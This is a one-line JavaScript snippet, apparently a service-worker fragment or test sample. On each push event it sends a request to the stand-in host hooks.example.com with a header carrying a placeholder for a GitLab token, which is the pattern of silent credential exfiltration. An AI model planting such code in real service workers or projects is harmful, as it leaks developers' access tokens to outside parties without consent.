self.addEventListener("push", () => fetch("https://hooks.example.com/", { headers: { "x-token": "{{gitlab}}" } }));
